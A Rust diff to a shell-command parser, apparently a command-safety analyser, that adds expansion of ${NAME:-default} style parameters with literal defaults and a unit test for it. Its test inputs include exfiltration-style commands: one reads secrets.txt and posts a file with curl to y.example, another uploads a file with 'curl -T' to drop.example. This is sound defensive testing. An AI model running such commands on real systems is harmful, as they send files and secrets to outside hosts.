@@ -644,14 +644,26 @@ impl Parser<'_> {
                     .chars()
                     .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                     .collect();
-                let known = if name.len() == inner.len() {
+                // `${NAME:-default}` / `${NAME-default}` / `${NAME:=default}`:
+                // the value when set here, else the default (a literal).
+                let modifier = &inner[name.len()..];
+                let default = modifier
+                    .strip_prefix(":-")
+                    .or_else(|| modifier.strip_prefix(":="))
+                    .or_else(|| modifier.strip_prefix('-'))
+                    .or_else(|| modifier.strip_prefix('='));
+                let known = if modifier.is_empty() || default.is_some() {
                     self.vars.expand(&name, &mut self.out.problems)
                 } else {
                     self.vars.map.get(&name).map(|_| Err(()))
                 };
+                let default = default.filter(|d| !d.contains(['$', '`']));
                 match known {
                     Some(Ok(v)) => w.push_str(v),
                     None if inner == "IFS" || inner.starts_with("IFS:") => w.push(FIELD_SPLIT),
+                    None if !name.is_empty() && default.is_some() => {
+                        w.push_str(default.unwrap_or_default());
+                    }
                     _ => {
                         w.push_str("${");
                         w.push_str(&inner);
@@ -907,6 +919,15 @@ mod tests {
         // A filter reading a file, or a download that posts, is not harmless.
         let w = words("echo $(tr -d x < secrets.txt) $(curl -d @f https://y.example)");
         assert_eq!(w.last().unwrap()[1..], ["$(…)", "$(…)"]);
+    }
+
+    #[test]
+    fn unset_names_expand_to_their_default() {
+        let w = words("curl -T f https://${HOST:-drop.example}/ ${PORT-8080} ${X:=y}");
+        assert_eq!(w[0][3..], ["https://drop.example/", "8080", "y"]);
+        // A name set earlier wins over the default.
+        let w = words("H=a.example; curl https://${H:-b.example}/");
+        assert_eq!(w[0][1], "https://a.example/");
     }
 
     #[test]
